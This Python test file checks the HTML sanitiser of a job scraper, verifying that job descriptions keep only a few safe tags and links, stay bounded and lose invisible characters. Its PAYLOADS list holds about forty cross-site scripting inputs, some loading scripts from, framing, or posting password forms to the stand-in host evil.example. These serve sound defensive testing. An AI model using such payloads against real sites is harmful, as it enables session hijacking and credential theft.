"""Descriptions: what is shown is safe, what is searched is readable."""

from __future__ import annotations

import re
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from job_scraper.normalise.characters import clean, one_line
from job_scraper.normalise.text import DESCRIPTION_LENGTH, describe, describe_parts, plain_text, sanitise

ALLOWED = {"p", "br", "ul", "ol", "li", "strong", "em", "h3", "h4", "a"}
LINK = re.compile(r'<a href="(?:https?://|mailto:)[^"<>\s]+" rel="nofollow noopener ugc">')

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='jAvAsCrIpT&colon;alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href=https://evil.example onclick=alert(1) style='position:fixed'>x</a>",
    "<a href='https://ok.example/\"onmouseover=alert(1) x=\"'>x</a>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data='https://evil.example'></object><embed src=x>",
    "<form action='https://evil.example'><input name=password autofocus onfocus=alert(1)><button>x",
    "<math><mtext></p><style><!--</style><img src=x onerror=alert(1)>--></mtext></math>",
    "<style>@import 'https://evil.example/x.css'; body{background:url(//evil.example)}</style>",
    "<div style='background:url(https://evil.example/track.png)'>x</div>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea></textarea><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<p onmouseover=alert(1) title='<script>'>x</p>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!--><script>alert(1)</script>-->",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<xmp><script>alert(1)</script></xmp>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "<plaintext><script>alert(1)</script>",
    "{{ 7*7 }}<p>{% debug %}</p>",
]


def tags_of(markup: str) -> list[str]:
    return re.findall(r"<[^>]*>", markup)


def assert_safe(markup: str) -> None:
    for tag in tags_of(markup):
        name = re.match(r"</?([a-z0-9]+)", tag)
        assert name is not None, tag
        assert name.group(1) in ALLOWED, tag
        assert tag in {f"<{name.group(1)}>", f"</{name.group(1)}>"} or LINK.fullmatch(tag), tag


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_executable_is_left(payload: str) -> None:
    for markup in (payload, f"<p>before</p>{payload}<p>behind</p>", f"<ul><li><b>{payload}</b></li></ul>"):
        described = describe(markup)
        assert_safe(described.html or "")
        assert_safe(sanitise(markup))
        assert "javascript:" not in "".join(tags_of(described.html or "")).lower()


def test_markup_becomes_the_few_tags_we_show() -> None:
    markup = (
        "<div><h1>Mission</h1>Vous <b>développez</b><br><br>et <i>testez</i>"
        "<table><tr><td>1</td><td>2</td></tr></table></div>"
        "<ol><li><p>un</p><p>deux</p></li><li>trois<ul><li>quatre</li></ul></li></ol>"
        "<a href='https://ok.example/?a=1&b=2'>voir</a> <a href='mailto:a@b.example'>écrire</a>"
    )
    described = describe(markup)
    assert described.html == (
        "<h3>Mission</h3><p>Vous <strong>développez</strong></p><p>et <em>testez</em></p><p>1 2</p>"
        "<ol><li>un<br>deux</li><li>trois<ul><li>quatre</li></ul></li></ol>"
        '<p><a href="https://ok.example/?a=1&amp;b=2" rel="nofollow noopener ugc">voir</a> '
        '<a href="mailto:a@b.example" rel="nofollow noopener ugc">écrire</a></p>'
    )
    assert described.text == (
        "Mission\n\nVous développez\n\net testez\n\n1 2\n\n- un\n  deux\n- trois\n  - quatre\n\nvoir écrire"
    )


def test_plain_text_keeps_its_paragraphs_and_bullets() -> None:
    described = describe("Profil :\nBac+5\n\n• Python\n• SQL & <Kafka\n- anglais\nR&amp;D bienvenue")
    assert described.text == "Profil :\nBac+5\n\n- Python\n- SQL & <Kafka\n- anglais\n\nR&D bienvenue"
    assert described.html == (
        "<p>Profil :<br>Bac+5</p><ul><li>Python</li><li>SQL &amp; &lt;Kafka</li><li>anglais</li></ul>"
        "<p>R&amp;D bienvenue</p>"
    )


def test_escaped_markup_is_unescaped_once_or_twice() -> None:
    assert describe("&lt;p&gt;Adyen&#8217;s &amp;amp; more&lt;/p&gt;").text == "Adyen’s & more"
    assert describe("&amp;lt;p&amp;gt;twice&amp;lt;/p&amp;gt;").html == "<p>twice</p>"


def test_comparisons_and_type_names_are_no_tags() -> None:
    assert describe("if a < b and c > d").text == "if a < b and c > d"
    assert describe("a List<String> of names").text == "a List<String> of names"


def test_parts_get_their_headings() -> None:
    described = describe_parts([(None, "<p>a</p>"), ("Profil <b>", "- x\n- y")])
    assert described.html == "<p>a</p><h3>Profil &lt;b&gt;</h3><ul><li>x</li><li>y</li></ul>"


@pytest.mark.parametrize(
    ("name", "markup"),
    [
        ("divs", "<div>" * 50_000 + "x" + "</div>" * 50_000),
        ("bold", "<b>" * 50_000 + "x"),
        ("lists", "<ul><li>" * 50_000 + "x"),
        ("items", "<li>x" * 60_000),
        ("paragraphs in an item", "<li>" + "<p> " * 90_000 + "x"),
        ("breaks", "<br>" * 90_000 + "x"),
        ("angle brackets", "<" * 300_000 + "x"),
        ("half tags", "<a " * 100_000 + "x"),
        ("quotes", '<a "<' * 60_000 + "x"),
        ("comments", "<!--" * 90_000 + "x"),
        ("scripts", "x<script>" * 40_000),
        ("spaces", " " * 400_000 + "x"),
        ("letters", "x" * 400_000),
        ("ampersands", "x" + "&" * 400_000),
    ],
)
def test_depth_and_length_are_bounded(name: str, markup: str) -> None:
    described = describe(markup)
    assert described.html, name
    assert len(described.html) <= DESCRIPTION_LENGTH
    assert len(described.text) <= DESCRIPTION_LENGTH
    assert_safe(described.html)
    assert max(described.html.count("<ul>"), described.html.count("<ol>")) <= 10_000
    assert sanitise(described.html) == described.html


@pytest.mark.parametrize(
    "bad", ["\x00", "\x1b", "\u202e", "\u2066", "\u200b", "\ufeff", "\ud800", "\u00ad", "\U000e0041"]
)
def test_unseen_characters_are_removed(bad: str) -> None:
    assert clean(f"a{bad}b") == "ab"
    assert describe(f"<p>a{bad}b</p>").text == "ab"
    assert describe(f"a{bad}b").html == "<p>ab</p>"
    assert bad not in one_line(f"a{bad}b")


def test_unseen_characters_behind_references_are_removed_too() -> None:
    assert describe("<p>a&#x202e;b&#0;c&zwj;d</p>").text == "ab\ufffdcd"
    assert one_line("a&#x202e;b") == "ab"


def test_arabic_and_composed_letters_stay() -> None:
    assert describe("<p>مهندس برمجيات</p>").text == "مهندس برمجيات"
    assert plain_text("e\u0301tude") == "étude"


def test_titles_are_one_line_of_255() -> None:
    assert one_line("  Data\n\tEngineer &amp; more ") == "Data Engineer & more"
    assert len(one_line("x" * 1_000_000)) == 255
    assert one_line("https://a.example/?a=1&copy=2") == "https://a.example/?a=1&copy=2"


PIECES = [
    *(
        "<p>",
        "</p>",
        "<b>",
        "</b>",
        "<i>",
        "</em>",
        "<ul>",
        "<li>",
        "</ul>",
        "<ol>",
        "</li>",
        "<br>",
        "<h2>",
        "</h2>",
    ),
    *(
        "<a href='https://a.example/b?c=1&d=2'>",
        "</a>",
        "<a href='javascript:x'>",
        "<div>",
        "<td>",
        " ",
        "\n",
        "x",
    ),
    *(
        "&amp;",
        "&lt;",
        "&nbsp;",
        "<",
        ">",
        '"',
        "'",
        "é",
        "\u00a0",
        "- ",
        "• ",
        "<script>",
        "</script>",
        "<!--",
        "-->",
    ),
]
MARKUP = st.lists(st.sampled_from(PIECES), max_size=30).map("".join)


@given(MARKUP | st.text(max_size=200))
def test_sanitising_twice_changes_nothing(markup: str) -> None:
    once = sanitise(markup)
    assert_safe(once)
    assert sanitise(once) == once


@given(MARKUP | st.text(max_size=200))
def test_html_and_text_say_the_same(markup: str) -> None:
    described = describe(markup)
    assert (described.html is None) == (described.text == "")
    letters = "".join(filter(str.isalpha, described.text))
    assert letters == "".join(filter(str.isalpha, plain_text(described.html or "")))
    assert unicodedata.is_normalized("NFC", described.text)


@given(st.text(max_size=300))
def test_cleaning_twice_changes_nothing(text: str) -> None:
    assert clean(clean(text)) == clean(text)
    assert one_line(one_line(text)) == one_line(text) or "&" in text
